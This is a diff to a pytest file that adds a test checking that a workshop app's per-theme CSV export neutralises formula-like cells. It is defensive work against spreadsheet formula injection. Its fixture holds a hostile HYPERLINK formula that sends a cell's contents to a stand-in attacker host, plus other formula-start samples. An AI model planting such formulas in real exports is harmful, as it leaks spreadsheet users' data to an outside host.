@@ -15,7 +15,7 @@ import pytest
 from hostile_files import run
 
 from workshop_app.core.store import WorkshopFile
-from workshop_app.report.csv import COLUMNS
+from workshop_app.report.csv import COLUMNS, THEME_COLUMNS
 
 LINK = '=HYPERLINK("https://evil.example/?d="&A1,"Klicka")'
 #: Formula-like starts: each one reaches the spreadsheet as a formula unless neutralised.
@@ -35,7 +35,7 @@ STARTS = {
     "cr lf": "\r\n@SUM(1)",
 }
 #: The columns our own code fills with numbers.
-NUMBERS = {"is_quote", "votes"}
+NUMBERS = {"is_quote", "theme_votes", "votes", "notes", "divided"}
 
 
 def _is_formula(cell: str) -> bool:
@@ -58,9 +58,9 @@ def hostile_series(tmp_path):
     return path
 
 
-def _rows(path, tmp_path, *flags) -> list[dict]:
+def _rows(path, tmp_path, *flags, kind="--csv") -> list[dict]:
     out = tmp_path / "notes.csv"
-    code, _out, err = run("export", path, "--csv", out, *flags)
+    code, _out, err = run("export", path, kind, out, *flags)
     assert code == 0, err
     data = out.read_bytes().decode("utf-8-sig")
     return list(csv.DictReader(io.StringIO(data, newline="")))
@@ -88,3 +88,13 @@ def test_the_text_stays_recoverable_behind_the_apostrophe(hostile_series, tmp_pa
         assert f"'{cleaned} ({name})" in texts, name
     assert {row["date"] for row in rows} == {"'" + LINK, "'\n=2021-03-15"}
     assert {row["series"] for row in rows} == {"'" + LINK}
+
+
+def test_no_cell_of_the_per_theme_csv_starts_a_formula(hostile_series, tmp_path):
+    rows = _rows(hostile_series, tmp_path, kind="--themes-csv")
+    assert rows, "one row per theme"
+    for row in rows:
+        for column in THEME_COLUMNS:
+            if column not in NUMBERS:
+                cell = row[column]
+                assert not _is_formula(cell) or cell.startswith("'"), (column, cell)
